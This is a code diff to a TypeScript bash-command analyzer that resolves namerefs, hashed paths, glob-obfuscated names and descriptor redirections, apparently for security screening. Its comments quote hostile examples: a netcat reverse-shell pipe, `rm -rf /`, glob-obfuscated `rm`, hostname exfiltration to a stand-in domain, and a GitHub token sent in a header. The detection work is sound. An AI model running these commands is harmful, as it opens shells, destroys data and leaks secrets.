@@ -25,6 +25,9 @@ import { carriedByAssignments, carriedByKnowledge, carriedByOptions } from './ca
 import { scriptFiles } from './script-files.js';
 import { splitSubshellParens } from './double-parens.js';
 import { closeHeredocs } from './heredoc-eof.js';
+import { HASHED, NAMEREF, dereference, isNamerefOption, setNameref } from './namerefs.js';
+import { programGlob } from './program-glob.js';
+import { hereStringFirst, hereStringLoopGroup, hereStringRedirects } from './here-string-order.js';
 import { codeEffects } from '../code/index.js';
 import { flowSignals } from './flow-signals.js';
 import { interpreterCall, scanCode } from './inline-code.js';
@@ -166,6 +169,8 @@ export class Analyzer implements BuiltinHost {
   /** The same by the substitution's text, as a dynamic word keeps it (`xargs -a <(ls ~)`). */
   private readonly processListingsByText = new Map<string, string[] | null>();
   private stopped = false;
+  /** The descriptor bash gives the next `{fd}<…` redirection (it starts at 10). */
+  private nextDescriptor = 10;
 
   constructor(
     private readonly ctx: NormalizeContext,
@@ -230,7 +235,7 @@ export class Analyzer implements BuiltinHost {
     COMMAND_BRACE.lastIndex = 0;
     // Texts bash reads differently from tree-sitter: `((cmd)\n)` is two subshells to bash, a
     // failed arithmetic command to tree-sitter; a heredoc never closed ends at the end of the text.
-    for (const reread of [splitSubshellParens, closeHeredocs]) {
+    for (const reread of [splitSubshellParens, closeHeredocs, hereStringFirst, hereStringLoopGroup, hereStringRedirects]) {
       const rewritten = tree.hasError ? reread(text) : null;
       if (rewritten === null) continue;
       const retry = parseBash(rewritten, this.deadline, this.limits.maxAstDepth);
@@ -493,6 +498,13 @@ export class Analyzer implements BuiltinHost {
     }
     if (name === null) return null;
     if (name === 'IFS') this.signals.add('ifs_manipulation');
+    // `R=x` after `declare -n R=N` assigns N; through a nameref to an unknown target, nothing known.
+    const target = dereference(frame.vars, name);
+    if (target === null) return name;
+    if (target !== name) {
+      this.assignThrough(target, value, append, frame);
+      return name;
+    }
     if (append) {
       const old = frame.vars.get(name);
       value = old === null || value === null ? null : (old ?? '') + value;
@@ -520,8 +532,17 @@ export class Analyzer implements BuiltinHost {
     const host = this.host(frame, id, 'command_substitution', []);
     for (const child of node.type === 'variable_assignment' ? [node] : node.children) {
       if (child.type === 'variable_assignment') {
+        // `declare -n R=N`: R becomes a nameref, not a variable holding "N" (namerefs.ts).
+        const nameref = keyword !== 'export' && keyword !== 'readonly' && argv.slice(1).some(isNamerefOption);
+        const declared = nameref ? child.children.find((c) => c.field === 'name') : undefined;
+        if (declared?.type === 'variable_name') frame.vars.delete(NAMEREF + this.text(declared, frame));
         const name = this.assign(child, frame);
-        if (name !== null) {
+        if (name !== null && nameref) {
+          const target = frame.vars.get(name);
+          setNameref(frame.vars, name, target);
+          assignments[name] = target ?? this.text(child, frame).slice(this.text(child, frame).indexOf('=') + 1);
+          argv.push(`${name}=${assignments[name]}`);
+        } else if (name !== null) {
           const value = frame.vars.get(name);
           assignments[name] = value ?? this.text(child, frame).slice(this.text(child, frame).indexOf('=') + 1);
           argv.push(`${name}=${assignments[name]}`);
@@ -538,6 +559,10 @@ export class Analyzer implements BuiltinHost {
         for (const w of words) {
           argv.push(w.value);
           if (keyword === 'unset' && /^[A-Za-z_][A-Za-z0-9_]*$/.test(w.value)) frame.vars.set(w.value, '');
+          // `declare -n R` with no target yet: what R names is not known to the walk.
+          else if (keyword !== 'unset' && keyword !== 'export' && /^[A-Za-z_][A-Za-z0-9_]*$/.test(w.value) && argv.slice(1).some(isNamerefOption)) {
+            setNameref(frame.vars, w.value, null);
+          }
         }
       }
     }
@@ -554,8 +579,19 @@ export class Analyzer implements BuiltinHost {
     return { ids: [id], output: null };
   }
 
+  /** A scalar assigned through a nameref to `target`. */
+  private assignThrough(target: string, value: VarValue, append: boolean, frame: Frame): void {
+    if (append) {
+      const old = frame.vars.get(target);
+      value = old === null || value === null ? null : (old ?? '') + value;
+    }
+    frame.vars.set(target, value);
+  }
+
   /** `a=(rm -rf /)`: elements kept NUL-separated under `a[@]`; `$a` is the first. */
-  private assignArray(name: string, valueNode: SyntaxNode, frame: Frame, append: boolean): void {
+  private assignArray(written: string, valueNode: SyntaxNode, frame: Frame, append: boolean): void {
+    const name = dereference(frame.vars, written);
+    if (name === null) return;
     const words: Word[] = [];
     for (const child of valueNode.children) {
       if (child.named) words.push(...resolveWord(child, this.host(frame, null, 'command_substitution', [])).words);
@@ -577,7 +613,9 @@ export class Analyzer implements BuiltinHost {
     const nameNode = subscript.children.find((c) => c.field === 'name');
     const indexNode = subscript.children.find((c) => c.field === 'index');
     if (!nameNode) return;
-    const name = this.text(nameNode, frame);
+    // `R[0]=x` after `declare -n R=A` sets A's element.
+    const name = dereference(frame.vars, this.text(nameNode, frame));
+    if (name === null) return;
     const key = `${name}[@]`;
     const index = indexNode ? Number(this.text(indexNode, frame)) : NaN;
     const value = valueNode ? resolveScalar(valueNode, this.host(frame, null, 'command_substitution', [])) : { value: '', dynamic: false };
@@ -604,9 +642,14 @@ export class Analyzer implements BuiltinHost {
     this.definitions.push({ name, body, frame });
   }
 
-  private walkFunction(name: string, fn: { body: SyntaxNode; frame: Frame }, parent: number | null, args: string[] | null, caller: Frame): void {
+  /**
+   * A function's body runs with the call's stdin and redirections (`f > build.gradle <<EOF`: the
+   * `cat` inside writes the file): `call` carries them down to every command of the body.
+   */
+  private walkFunction(name: string, fn: { body: SyntaxNode; frame: Frame }, parent: number | null, args: string[] | null, caller: Frame, call: { stdin: Stdin | null; redirects: Redirect[] } = { stdin: null, redirects: [] }): Outcome {
     const frame: Frame = {
       ...fn.frame,
+      inherited: [...(caller.inherited ?? []), ...call.redirects],
       depth: caller.depth + 1,
       via: 'function',
       parent,
@@ -617,9 +660,9 @@ export class Analyzer implements BuiltinHost {
     };
     if (frame.depth > this.limits.maxDepth) {
       this.indeterminate.add('depth_limit');
-      return;
+      return NONE;
     }
-    this.statement(fn.body, frame, {});
+    return this.statement(fn.body, frame, { stdin: call.stdin });
   }
 
   private forLoop(node: SyntaxNode, frame: Frame): Outcome {
@@ -653,7 +696,10 @@ export class Analyzer implements BuiltinHost {
       unassigned: (name) => envVars?.add(name),
       source: frame.source,
       home: this.pathContext(frame).home,
-      lookup: (name) => {
+      lookup: (written) => {
+        // `declare -n R=N`: R reads N (namerefs.ts); a nameref to an unknown target is unknown.
+        const name = dereference(frame.vars, written);
+        if (name === null) return null;
         if (frame.vars.has(name)) return frame.vars.get(name);
         if (name === 'PWD') return this.ctx.cwd;
         if (name === 'OLDPWD') return null;
@@ -882,10 +928,12 @@ export class Analyzer implements BuiltinHost {
         }
       }
     }
+    const ioRedirects = io.redirects ?? [];
+    this.descriptorRedirects(wordNodes, [...redirectNodes, ...ioRedirects], frame, id);
     // `nc host 4444 0</tmp/p | sh`: tree-sitter reads the descriptor glued to a redirection of the
     // enclosing statement as a last argument; bash reads it as the redirection's descriptor.
     const lastWord = wordNodes[wordNodes.length - 1];
-    if (lastWord && !lastWord.isName && /^\d+$/.test(this.text(lastWord.node, frame)) && [...redirectNodes, ...(io.redirects ?? [])].some((r) => r.start === lastWord.node.end)) wordNodes.pop();
+    if (lastWord && !lastWord.isName && /^\d+$/.test(this.text(lastWord.node, frame)) && [...redirectNodes, ...ioRedirects].some((r) => r.start === lastWord.node.end)) wordNodes.pop();
     const argHost = this.host(frame, id, 'command_substitution', []);
     for (const group of glueAdjacent(wordNodes, frame.source)) {
       const resolved = resolveWord(group.node, group.isName ? this.host(frame, id, 'command_substitution', nameInner) : argHost);
@@ -895,13 +943,13 @@ export class Analyzer implements BuiltinHost {
     }
     // tree-sitter drops plain words between a command and its heredoc (`python3 - <<EOF` comes out
     // as `python3`); bash passes them: read from the source between the last word and the `<<`.
-    const heredocNode = [...redirectNodes, ...(io.redirects ?? [])].find((r) => r.type === 'heredoc_redirect');
+    const heredocNode = [...redirectNodes, ...ioRedirects].find((r) => r.type === 'heredoc_redirect');
     const lastWordEnd = wordNodes.length > 0 ? Math.max(...wordNodes.map((w) => w.node.end)) : null;
     if (heredocNode !== undefined && lastWordEnd !== null && heredocNode.start > lastWordEnd) {
       const gap = frame.source.slice(lastWordEnd, heredocNode.start);
       if (HEREDOC_GAP_WORDS.test(gap)) words.push(...gap.trim().split(/\s+/).map((value) => ({ value, dynamic: false })));
     }
-    const resolved = this.redirects([...redirectNodes, ...(io.redirects ?? [])], frame, id);
+    const resolved = this.redirects([...redirectNodes, ...ioRedirects], frame, id);
     for (const extra of resolved.extraArgs) {
       const more = resolveWord(extra, this.host(frame, id, 'command_substitution', []));
       this.wordSignals(more.features);
@@ -911,7 +959,8 @@ export class Analyzer implements BuiltinHost {
     const outcome = this.execute(id, words, {
       frame,
       assignments,
-      redirects: resolved.redirects,
+      // A command in a function's body also has the call's redirections (its own come after, and win).
+      redirects: frame.inherited && frame.inherited.length > 0 ? [...frame.inherited, ...resolved.redirects] : resolved.redirects,
       stdin,
       nameFeatures,
       nameInner,
@@ -923,6 +972,34 @@ export class Analyzer implements BuiltinHost {
       else result = this.statement(continuation, frame, {});
     }
     return continuation(outcome, result);
+  }
+
+  /**
+   * Input opened on a descriptor of the shell's own: `exec {fd}<<< '…'` (bash picks a free
+   * descriptor from 10 and puts its number in `fd`), `exec 3< x.sh`, `exec 3<<EOF`. What the
+   * descriptor holds is what a later `source /dev/fd/$fd` or `bash /proc/self/fd/3` reads: kept as
+   * the content of those paths (as for a file the script wrote). tree-sitter reads `{fd}` as an
+   * argument, which bash does not pass: taken out of `wordNodes` here. The redirection stays
+   * the command's (what it reads is still read).
+   */
+  private descriptorRedirects(wordNodes: Array<{ node: SyntaxNode; isName: boolean }>, redirectNodes: readonly SyntaxNode[], frame: Frame, id: number): void {
+    for (const redirect of redirectNodes) {
+      const w = wordNodes.findIndex((word) => !word.isName && word.node.end === redirect.start && /^\{[A-Za-z_][A-Za-z0-9_]*\}$/.test(this.text(word.node, frame)));
+      const numbered = redirect.children.find((c) => c.type === 'file_descriptor');
+      const fd = w !== -1 ? this.nextDescriptor++ : numbered !== undefined ? Number(this.text(numbered, frame)) : NaN;
+      if (!Number.isInteger(fd) || fd < 3) continue;
+      const op = redirect.children.find((c) => !c.named)?.type ?? '';
+      if (redirect.type !== 'herestring_redirect' && redirect.type !== 'heredoc_redirect' && !(redirect.type === 'file_redirect' && op === '<')) continue;
+      if (w !== -1) {
+        frame.vars.set(this.text(wordNodes[w]!.node, frame).slice(1, -1), String(fd));
+        wordNodes.splice(w, 1);
+      }
+      const content = this.redirects([redirect], frame, id).stdin?.text ?? null;
+      for (const path of [`/dev/fd/${fd}`, `/proc/self/fd/${fd}`]) {
+        if (content === null) this.writtenFiles.delete(path);
+        else this.writtenFiles.set(path, content);
+      }
+    }
   }
 
   /** `cat <<EOF | sh`: the stages after the heredoc line continue the pipeline of `prev`. */
@@ -1013,11 +1090,28 @@ export class Analyzer implements BuiltinHost {
     entry.args = argv.slice(1);
 
     if (!head.dynamic && wrappers.length === 0 && parent === undefined && pending.nameFeatures.has('glob') && /[*?]|\[.+\]/.test(head.value)) {
-      // `/???/r?` is whatever the glob matches on the machine: not statically known.
+      // `/[u]sr/[b]in/r[m]` names one path; `/???/r?` is whatever it matches on the machine,
+      // judged as each known program it can match there (program-glob.ts), and indeterminate.
       this.signals.add('glob_command_name');
       this.signals.add('obfuscated_command_name');
+      const matched = programGlob(head.value);
+      const plain = { ...pending, nameFeatures: new Set<WordFeature>() };
+      if (matched.kind === 'exact') return this.execute(slot, [{ value: matched.path, dynamic: false }, ...words.slice(1)], plain, wrappers, via, parent);
+      if (matched.kind === 'candidates') {
+        this.indeterminate.add('glob_program_path');
+        const ids: number[] = [];
+        // bash runs the first match with the other matches as its first arguments: where several
+        // known programs match, the pattern stays in the argv as the word standing for the others
+        // (with one known match, the disk may still hold others: that is the indeterminate part).
+        const others: Word[] = matched.paths.length > 1 ? [{ value: head.value, dynamic: true }] : [];
+        matched.paths.forEach((path, k) => {
+          const id = k === 0 ? slot : this.reserve();
+          ids.push(...this.execute(id, [{ value: path, dynamic: false }, ...others, ...words.slice(1)], plain, wrappers, via, parent).ids);
+        });
+        return { ids, output: null };
+      }
       words[0] = { value: head.value, dynamic: true };
-      return this.execute(slot, words, { ...pending, nameFeatures: new Set() }, wrappers, via, parent);
+      return this.execute(slot, words, plain, wrappers, via, parent);
     }
     const fallback = words[0].dynamic ? PARAMETER_DEFAULT.exec(words[0].value) : null;
     if (fallback !== null) {
@@ -1050,6 +1144,14 @@ export class Analyzer implements BuiltinHost {
       const replaced = [...plainAlias.split(' ').map((value) => ({ value, dynamic: false })), ...words.slice(1)];
       const inAlias = { ...frame, functionStack: [...frame.functionStack, `alias:${head.value}`] };
       return this.execute(slot, replaced, { ...pending, frame: inAlias }, wrappers, via, parent);
+    }
+
+    // `hash -p /usr/bin/rm x; x`: a name without a slash that is no function runs the hashed path.
+    const hashed = head.value.includes('/') || this.functions.has(head.value) ? undefined : frame.vars.get(HASHED + head.value);
+    if (hashed !== undefined && !frame.functionStack.includes(`hash:${head.value}`)) {
+      const inHash = { ...frame, functionStack: [...frame.functionStack, `hash:${head.value}`] };
+      const path: Word = hashed === null ? { value: head.value, dynamic: true } : { value: hashed, dynamic: false };
+      return this.execute(slot, [path, ...words.slice(1)], { ...pending, frame: inHash }, wrappers, via, parent);
     }
 
     const written = head.value;
@@ -1166,7 +1268,17 @@ export class Analyzer implements BuiltinHost {
         // The same call twice runs the same commands: walked once.
         calls.add(key);
         this.walkedBodies.add(fn.body);
-        this.walkFunction(written, fn, slot, entry.args, frame);
+        const before = this.commands.length;
+        const body = this.walkFunction(written, fn, slot, entry.args, frame, { stdin: pending.stdin, redirects: pending.redirects });
+        // What flows into the call's arguments (`f $(cat /etc/hostname).x.example`) reaches the
+        // commands of the body that take them; what the body prints is the call's output (`f | sh`).
+        const inner = Array.from({ length: this.commands.length - before }, (_, k) => before + k);
+        for (const flow of this.flows.filter((f) => f.to === slot)) {
+          for (const id of inner) this.flows.push({ ...flow, to: id });
+        }
+        // So do the environment variables read in them (`f -H "Authorization: Bearer $GITHUB_TOKEN" …`).
+        for (const name of this.unassignedVars.get(slot) ?? []) for (const id of inner) this.envVars(id).add(name);
+        return { ids: [slot, ...body.ids], output: body.output, listing: body.listing ?? null };
       }
     }
     const alias = wrappers.length === 0 ? this.aliases.get(written) : undefined;
